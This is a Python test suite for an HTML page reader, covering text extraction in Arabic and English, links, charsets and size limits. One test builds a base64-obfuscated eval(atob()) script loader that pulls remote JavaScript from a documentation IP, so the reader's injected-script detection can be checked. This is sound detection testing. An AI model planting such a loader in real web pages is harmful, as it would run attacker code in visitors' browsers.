"""Saved pages: charset, title, main text, links, limits and hostile bytes.

Pages are synthetic news-style paragraphs (Arabic and English); links and loaders point only at
example.org / example.net / .invalid and documentation IP ranges.
"""

from __future__ import annotations

import base64
import os
import time

from hypothesis import given, settings
from hypothesis import strategies as st

from raqib.content.page import MAX_LINKS, MAX_PAGE_BYTES, Page, read_page

EN = (
    "The regional weather service said on Tuesday that light rain is expected across the "
    "coastal districts, with temperatures falling by two degrees before the weekend market."
)
AR = (
    "قالت هيئة الأرصاد الجوية يوم الثلاثاء إن أمطاراً خفيفة متوقعة على المناطق الساحلية "
    "مع انخفاض درجات الحرارة بدرجتين قبل افتتاح السوق الأسبوعية."
)
ARTICLE = f"<article><h1>Weather</h1><p>{EN}</p><p>{AR}</p><p>{EN}</p><p>{AR}</p></article>"


def html_page(body: str, head: str = '<meta charset="utf-8">') -> bytes:
    return (
        f"<!doctype html><html><head>{head}<title> Coastal\n weather   report </title></head>"
        f"<body><nav><a href='/home'>Home</a></nav>{body}<footer>Contact</footer></body></html>"
    ).encode()


def test_title_and_main_text_in_both_languages() -> None:
    page = read_page(html_page(ARTICLE))
    assert isinstance(page, Page)
    assert page.title == "Coastal weather report"
    assert EN in page.text and AR in page.text
    assert "<p>" not in page.text
    assert page.errors == () and page.injected_scripts == ()


def test_comments_cdata_scripts_and_styles_are_not_text() -> None:
    body = (
        ARTICLE
        + "<!-- editor note: PLACEHOLDER-COMMENT --><![CDATA[ PLACEHOLDER-CDATA ]]>"
        + "<svg><![CDATA[ PLACEHOLDER-SVG ]]></svg>"
        + "<script>var marker = 'PLACEHOLDER-SCRIPT';</script>"
        + "<style>.x{content:'PLACEHOLDER-STYLE'}</style>"
        + "<noscript>PLACEHOLDER-NOSCRIPT</noscript>"
        + "<template><p>PLACEHOLDER-TEMPLATE</p></template>"
    )
    text = read_page(html_page(body)).text
    assert EN in text
    for hidden in ("COMMENT", "CDATA", "SVG", "SCRIPT", "STYLE", "NOSCRIPT", "TEMPLATE"):
        assert f"PLACEHOLDER-{hidden}" not in text


def test_short_page_falls_back_to_visible_body_text() -> None:
    page = read_page(
        b"<html><head><title>t</title><script>var a=1;</script></head><body>"
        b"<div>Markets closed higher.</div>"
        b"<div>\xd8\xa7\xd9\x84\xd8\xb3\xd9\x88\xd9\x82</div></body>"
    )
    assert page.text == "Markets closed higher.\nالسوق"


def test_broken_markup_still_gives_text() -> None:
    data = f"<html><body><div><p>{EN}<p>{AR}<table><tr><td>Close<td>1.2%<b><i>unclosed".encode()
    page = read_page(data)
    assert EN in page.text and AR in page.text


def test_links_are_absolute_http_only_and_resolved_against_base() -> None:
    body = (
        "<a href='https://news.example.org/a'>a</a><a href='https://news.example.org/a'>dup</a>"
        "<a href='mailto:desk@example.org'>mail</a><a href='javascript:void(0)'>js</a>"
        "<a href=' http://markets.example.net/b\n?x=1 '>b</a><a href='ftp://files.example.org/'>f</a>"
        "<a href='http://[::1'>broken</a>"
    )
    assert read_page(html_page(body)).links == (
        "https://news.example.org/a",
        "http://markets.example.net/b?x=1",
    )
    with_base = read_page(html_page(body, head="<base href='https://mirror.example.org/news/'>"))
    assert with_base.links[:2] == ("https://mirror.example.org/home", "https://news.example.org/a")


def test_links_are_capped() -> None:
    body = "".join(f"<a href='https://example.org/p{n}'>p</a>" for n in range(MAX_LINKS + 50))
    links = read_page(html_page(body)).links
    assert len(links) == MAX_LINKS and links[-1] == f"https://example.org/p{MAX_LINKS - 1}"


def test_injected_scripts_are_reported_on_the_page() -> None:
    loader = "var s=document.createElement('script');s.src='http://192.0.2.10/x.js';"
    payload = base64.b64encode(loader.encode()).decode()
    page = read_page(html_page(ARTICLE + f"<script>eval(atob('{payload}'))</script>"))
    assert [f.technique for f in page.injected_scripts] == ["eval_atob+raw_ip_script_src"]
    assert page.injected_scripts[0].iocs[1] == {"type": "ip", "value": "192.0.2.10"}
    assert "eval" not in page.text


# -- charsets --------------------------------------------------------------------------------


def test_meta_charset_windows_1256() -> None:
    head = '<meta http-equiv="Content-Type" content="text/html; charset=windows-1256">'
    data = f"<html><head>{head}</head><body><p>{AR}</p></body></html>"
    page = read_page(data.encode("cp1256"))
    assert AR in page.text and page.errors == ()


def test_bom_wins_over_meta() -> None:
    data = '<meta charset="windows-1256"><p>مرحبا بالقراء</p>'.encode("utf-16-le")
    page = read_page(b"\xff\xfe" + data)
    assert page.text == "مرحبا بالقراء" and page.errors == ()


def test_latin1_label_reads_as_windows_1252() -> None:
    page = read_page(b'<meta charset="iso-8859-1"><p>Caf\xe9 \x93quoted\x94</p>')
    assert page.text == "Café “quoted”"


def test_invalid_utf8_is_replaced_and_reported() -> None:
    page = read_page(b"<p>Markets \xff\xfe rose</p>")
    assert page.text == "Markets \ufffd\ufffd rose"
    assert page.errors == ("not UTF-8: decoded with replacement",)


def test_unknown_charset_is_reported() -> None:
    page = read_page(b'<meta charset="x-placeholder-17"><p>Trains run on time.</p>')
    assert page.text == "Trains run on time."
    assert page.errors == ("unknown charset 'x-placeholder-17': read as UTF-8",)


# -- limits and hostile bytes ----------------------------------------------------------------


def test_binary_junk_does_not_crash() -> None:
    for data in (
        b"",
        os.urandom(50_000),
        b"\x00" * 5_000,
        b"\x89PNG\r\n\x1a\n" + os.urandom(2_000),
    ):
        page = read_page(data)
        assert isinstance(page.text, str) and "\x00" not in page.text
    assert "page looks like binary data" in read_page(b"\x00" * 5_000).errors


def test_oversized_page_is_truncated_with_an_error() -> None:
    filler = b"<p>" + EN.encode() + b"</p>\n"
    data = filler * (MAX_PAGE_BYTES // len(filler) + 100)
    page = read_page(data)
    assert "page over 20 MB: truncated" in page.errors
    assert page.text.startswith(EN)


def test_large_pages_use_the_body_text_and_scale_linearly() -> None:
    paragraph = f"<p>{EN}</p><p>{AR}</p>\n"

    def seconds(size: int) -> float:
        body = paragraph * (size // len(paragraph))
        started = time.perf_counter()
        page = read_page(html_page(body))
        assert page.text.count(AR) == body.count(AR)
        assert page.errors == (
            "over 2 MB of markup without scripts: main text is the visible body text",
        )
        return time.perf_counter() - started

    small = min(seconds(2_500_000), seconds(2_500_000))  # characters, not bytes
    large = min(seconds(5_000_000), seconds(5_000_000))
    assert large < 20.0
    assert large < small * 2 * 3 + 1.0


@settings(max_examples=60, deadline=None)
@given(st.binary(max_size=2_000))
def test_any_bytes_give_a_page(data: bytes) -> None:
    page = read_page(b"<html><body><p>" + data + b"</p><script>" + data + b"</script>")
    assert isinstance(page, Page)
    assert all(link.startswith(("http://", "https://")) for link in page.links)
